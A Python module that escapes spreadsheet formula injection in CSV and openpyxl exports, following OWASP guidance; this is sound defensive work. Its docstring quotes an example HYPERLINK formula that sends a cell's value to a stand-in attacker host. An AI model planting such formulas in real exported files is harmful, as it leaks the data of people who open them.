"""Every cell a workbook or CSV file gets, written as data: text a person typed that begins like
a formula (``= + - @``, a tab or a carriage return) stays text, so a note such as
``=HYPERLINK("http://evil.example/?"&D3)`` is shown, never run, when an inspector opens the file
in Excel or WPS (OWASP's CSV-injection guidance). Numbers and dates stay numbers and dates."""

from __future__ import annotations

from collections.abc import Iterable, Sequence
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_value(value: Any) -> Any:
    """A CSV field: text that would start a formula gets a leading apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def csv_row(values: Iterable[Any]) -> list[Any]:
    """A CSV row of :func:`csv_value` fields."""
    return [csv_value(value) for value in values]


def append_row(sheet: Any, values: Sequence[Any]) -> None:
    """Append a row to an openpyxl sheet with every text cell typed as a string (openpyxl would
    make a text that begins with ``=`` a formula)."""
    sheet.append(list(values))
    row = sheet.max_row
    for column, value in enumerate(values, start=1):
        if isinstance(value, str) and value.startswith(FORMULA_START):
            cell = sheet.cell(row=row, column=column)
            cell.value = value
            cell.data_type = "s"
